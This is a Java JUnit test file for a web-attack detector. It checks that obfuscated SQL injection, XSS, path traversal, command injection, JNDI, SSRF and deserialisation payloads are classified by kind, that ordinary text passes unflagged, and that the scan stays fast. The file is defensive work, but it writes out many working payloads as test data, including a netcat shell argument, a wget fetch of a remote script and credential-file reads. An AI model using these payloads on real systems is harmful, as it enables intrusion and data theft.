package io.vitrine.trust.attacks;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Attacks are recognised by class in every disguise, ordinary texts are left in peace. */
class DetectorTest {

  private static List<String> kinds(String value) {
    return Detector.inspect(value).stream().map(found -> found.kind().wireName()).toList();
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '~',
      quoteCharacter = '\u0001',
      value = {
        "1' or '1'='1 ~ sql_injection",
        "1%2527%2520union%2520select%2520null-- ~ sql_injection",
        "1/**/UnIoN/**/SeLeCt/**/1,2 ~ sql_injection",
        "1;waitfor delay '0:0:5'-- ~ sql_injection",
        "<svg/onload=alert(1)> ~ cross_site_scripting",
        "&#x3c;script&#x3e;alert(1) ~ cross_site_scripting",
        "java&#9;script:alert(1) ~ cross_site_scripting",
        "..%c0%af..%c0%afetc/passwd ~ path_traversal",
        "....//....//windows/win.ini ~ path_traversal",
        "127.0.0.1; cat /etc/hosts ~ command_injection",
        "a|w'h'oami ~ command_injection",
        "x;echo AB$((3+4)) ~ command_injection",
        "${jndi:ldap://a/b} ~ name_lookup",
        "{{7*7}} ~ template_injection",
        "*)(uid=*))(|(uid=* ~ ldap_injection",
        "user[$ne] ~ nosql_injection",
        "__proto__[x] ~ prototype_pollution",
        "http://169.254.169.254/latest/meta-data/ ~ server_side_request_forgery",
        "x%0d%0aSet-Cookie: a=b ~ header_injection",
        "php://filter/resource=index.php ~ local_file_inclusion",
        "7--x%0aunion--x%0aselect--x%0anull ~ sql_injection",
        "3';if(1=2) select 1 else drop function f-- ~ sql_injection",
        "a' and 1::int=1-- ~ sql_injection",
        "a%EF%BC%87 or 2=2-- ~ sql_injection",
        "'-0-' ~ sql_injection",
        "b') in boolean mode)# ~ sql_injection",
        "\"-frames.alert(1)// ~ cross_site_scripting",
        "*/confirm(1)/* ~ cross_site_scripting",
        "+ADw-img src=x onerror=f(1)+AD4- ~ cross_site_scripting",
        "\u00bcscript\u00bef(1)\u00bc/script\u00be ~ cross_site_scripting",
        "..%f0%80%80%af..%f0%80%80%afboot ~ path_traversal",
        "a/..%c1%8s..%c1%8s..%c1%8sx ~ path_traversal",
        "0x2e0x2e/0x2e0x2e/0x2e0x2e/x ~ path_traversal",
        "..%u2216..%u2216..%u2216x ~ path_traversal",
        ".htpasswd ~ path_traversal",
        "1|powershell.exe Get-Process ~ command_injection",
        "a;grep root /etc/passwd ~ command_injection",
        "x%0ahead -2 /etc/group ~ command_injection",
        "9`expr 4 + 4` ~ command_injection",
        "b||uptime ~ command_injection",
        "c; for i in $(seq 3); do sleep 1; done ~ command_injection",
        "$a='ex'.'ec';$a('id'); ~ code_injection",
        "java.lang.ProcessBuilder ~ deserialisation",
        "PHN2Zy9vbmxvYWQ9YWxlcnQoMSk%2B ~ cross_site_scripting",
        "PHN2Zy9vbmxvYWQ9YWxlcnQoMSk+ ~ cross_site_scripting",
        "MScgdW5pb24gc2VsZWN0IG51bGwtLQ ~ sql_injection",
        "TVNjZ2RXNXBiMjRnYzJWc1pXTjBJRzUxYkd3dExRPT0= ~ sql_injection",
        "Tzo0OiJVc2VyIjoxOntzOjc6IgAqAG5hbWUiO3M6MToiYSI7fQ%3D%3D ~ deserialisation",
        "http://\u246f\u2468.\u2461\u2464\u2463.\u246f\u2468.\u2461\u2464\u2463/ ~ server_side_request_forgery",
        "http://127\u30020\u30020\u30021/ ~ server_side_request_forgery",
        "http://kubernetes.default.svc/api ~ server_side_request_forgery",
        "./././etc/./passwd ~ path_traversal",
        "/etc/kubernetes/admin.conf ~ path_traversal",
        "/opt/tomcat/conf/tomcat-users.xml ~ path_traversal",
        "C:\\Users\\Administrator\\NTUser.dat ~ path_traversal",
        "System.IO.File.ReadAllText(\"c\") ~ code_injection",
        "<map><entry><jdk.nashorn.internal.objects.NativeString> ~ deserialisation"
      })
  void anAttackIsOfItsClass(String value, String kind) {
    assertThat(kinds(value.strip())).contains(kind.strip());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "O'Brien",
        "select a union",
        "Rock 'n' roll & blues -- live",
        "5 < 6 and 7 > 3",
        "C'est l'été : jusqu'à -50% aujourd'hui ; profitez-en (ou pas)",
        "https://shop.example/p/1?ref=mail&utm_source=x",
        "{\"name\":\"Anna\",\"tags\":[\"a\",\"b\"]}",
        "for (int i = 0; i < n; i++) { sum += x[i]; }",
        "dGhpcyBpcyBhIHRlc3Qgb2YgYmFzZTY0IGVuY29kaW5n",
        "ping pong table & cat food, sleep mask",
        "& cat food; sleep mask",
        "head & tail lights; sort, filter and find",
        "Use `git status` to see changes",
        "select all from wishlist",
        "drop table lamp",
        "sleep(8)hours",
        "alert(s)",
        "https://www.example.com/image.jpg?",
        "<a href=\"https://example.com\">link</a>",
        "It was great ... and then .. nothing .. at all",
        "1\u00bc to 1\u00be cups of flour",
        "javascript: the good parts",
        "C:\\Users\\Marie\\Pictures\\cat.jpg",
        "Gr\u00f6\u00dfe \u2460 oder \u2461",
        "c2hpcHBpbmcgYWRkcmVzcw",
        "3f2504e04f8911d39a0c0305e82c3301",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)"
      })
  void anOrdinaryTextIsNone(String value) {
    assertThat(Detector.inspect(value)).isEmpty();
  }

  private static final String PROSE =
      "We liked the shop & its staff; it's a joy (really) to come back. <b>Size</b> = \"L\", 5 > 3! ";

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<script>f(1)</script>",
        "../../../../etc/passwd",
        "|nc -e x 1",
        "1 union select name, password from users--",
        "${jndi:ldap://a/b}",
        "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>",
        "*)(uid=*))(|(uid=*",
        "%3Cimg src=x onerror=alert(1)%3E",
        "`wget http://a.example/b.sh`"
      })
  void anAttackIsFoundWhereverItIsInALongText(String attack) {
    assertThat(Detector.inspect(PROSE.repeat(2_000))).isEmpty();
    long seed = new Random().nextLong();
    Random random = new Random(seed);
    for (int i = 0; i < 10; i++) {
      int before = random.nextInt(1_000);
      String text = PROSE.repeat(before) + attack + " " + PROSE.repeat(1_000 - before);
      assertThat(Detector.inspect(text)).as("behind %d, seed %d", before, seed).isNotEmpty();
    }
  }

  /** Others are tried and lead nowhere before it comes to the one that does. */
  @Test
  void anAttackIsFoundAmongManySignsThatOnlyBeginSomething() {
    for (String bit : HostileBits.ALL) {
      String noise = bit.repeat(20_000 / bit.length());
      String text = noise + "\n<script>f(1)</script>\n" + noise;
      assertThat(kinds(text)).as(bit).contains("cross_site_scripting");
    }
  }

  @Test
  void theEvidenceOfALongTextIsWhatWasFoundNotWhereTheTextBegins() {
    String text =
        PROSE.repeat(50) + "1 union select name, password from users-- " + PROSE.repeat(50);
    assertThat(Detector.inspect(text).getFirst().words()).contains("union select");
  }

  /** A step is one sign looked at once; a second of a processor does some hundred million. */
  @Test
  void aTextTwiceAsLongCostsTwiceAsMuchWhateverItIs() {
    for (String bit : HostileBits.ALL) {
      for (String text : List.of(bit, "' " + bit, bit + "x' ")) {
        long once = steps(text.repeat(50_000 / text.length()));
        long twice = steps(text.repeat(100_000 / text.length()));
        assertThat(twice).as(text).isLessThan((long) (2.3 * once) + 20_000);
        assertThat(twice / 100_000).as(text).isLessThan(MOST_STEPS);
      }
    }
  }

  private static final long MOST_STEPS = 300;

  private static long steps(String text) {
    Effort effort = new Effort();
    List<Evidence> _ = Detector.inspect(text, effort);
    return effort.steps();
  }

  /** A word that a rule is thought to need, and does not, would hide attacks. */
  @Test
  void noRuleIsPassedOverByTheWordsThatItNeeds() throws IOException {
    for (String name :
        List.of(
            "sql_injection",
            "cross_site_scripting",
            "path_traversal",
            "command_injection",
            "other")) {
      List<String> lines = Files.readAllLines(Path.of("bench/attacks/" + name + ".txt"));
      long found = lines.stream().filter(line -> !Detector.inspect(line).isEmpty()).count();
      assertThat((double) found / lines.size()).as(name).isGreaterThan(0.95);
    }
  }

  @ParameterizedTest
  @CsvSource({
    "abc,            abc",
    "a(?:bc|de)f,    'bc,de'",
    "x+yz,           yz",
    "(?:ab)?cd,      cd",
    "[;|]\\s{0}cat,  cat",
    "\\.\\./,        ../"
  })
  void aPatternNeedsItsWords(String pattern, String words) {
    assertThat(Literals.sorted(pattern)).containsExactly(words.split(",", -1));
  }

  @Test
  void twoPartsOfAPatternAreNeeded() {
    Literals.Needs needs = Literals.needs("[<>]a*(?:script|on)x?=");
    assertThat(needs.first()).containsExactlyInAnyOrder("script", "on");
    assertThat(needs.second()).containsExactly("=");
    assertThat(Literals.needs("ab.*cde|x.").second()).isEmpty();
  }

  @Test
  void aPatternThatMayBeAnythingNeedsNone() {
    assertThat(Literals.of("a*|b")).isEmpty();
    assertThat(Literals.of("[^a]+")).isEmpty();
  }
}
